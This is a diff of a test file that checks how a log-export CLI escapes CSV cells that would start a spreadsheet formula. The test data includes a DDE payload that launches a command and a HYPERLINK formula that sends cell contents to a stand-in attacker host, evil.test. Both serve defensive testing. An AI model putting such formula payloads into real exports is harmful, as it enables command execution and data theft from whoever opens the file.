@@ -23,14 +23,21 @@ describe('csv cells that would start a formula', () => {
   });
 
   it('leave other cells as they were', () => {
-    for (const value of ['plain', '10.0.0.1', 'a=b', '{"a":1}', "'quoted"]) expect(csvField(value)).toBe(value.includes('"') ? `"${value.replace(/"/g, '""')}"` : value);
+    for (const value of ['plain', '10.0.0.1', 'a=b', '{"a":1}', "'quoted"])
+      expect(csvField(value)).toBe(value.includes('"') ? `"${value.replace(/"/g, '""')}"` : value);
   });
 
   it('are neutralised in the events CSV and the logins CSV', () => {
     const events = eventCsvRenderer().record(sampleRecord({ name: '=cmd|"/c calc"!A1', user_id: '@evil' }));
     expect(events.split('\r\n')[1]).toContain(`,"'=cmd|""/c calc""!A1",`);
     expect(events).toContain(",'@evil,");
-    const login: LoginRecord = { id: 'l1', created_at: '2026-11-29T08:00:01Z', person_id: 'u1', ip_address: '+1-2', origin: '-web' };
+    const login: LoginRecord = {
+      id: 'l1',
+      created_at: '2026-11-29T08:00:01Z',
+      person_id: 'u1',
+      ip_address: '+1-2',
+      origin: '-web',
+    };
     expect(loginCsvRenderer().record(login).split('\r\n')[1]).toBe("l1,2026-11-29T08:00:01Z,u1,'+1-2,'-web");
   });
 });
@@ -53,7 +60,9 @@ describe('logs --logins --format csv', () => {
     expect(answer.status).toBe(200);
     const dir = configDir();
     await loginAs(sandbox, sandbox.users.admin, dir);
-    const result = await runCli(['logs', '--logins', '--all', '--format', 'csv'], { env: { KITSU_TAIL_CONFIG_DIR: dir } });
+    const result = await runCli(['logs', '--logins', '--all', '--format', 'csv'], {
+      env: { KITSU_TAIL_CONFIG_DIR: dir },
+    });
     expect(result.code, result.stderr).toBe(0);
     const line = result.stdout.split('\r\n').find((l) => l.includes('HYPERLINK')) ?? '';
     expect(line).toMatch(/^[^,]+,[^,]+,[^,]+,"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""Click""\)",script$/);
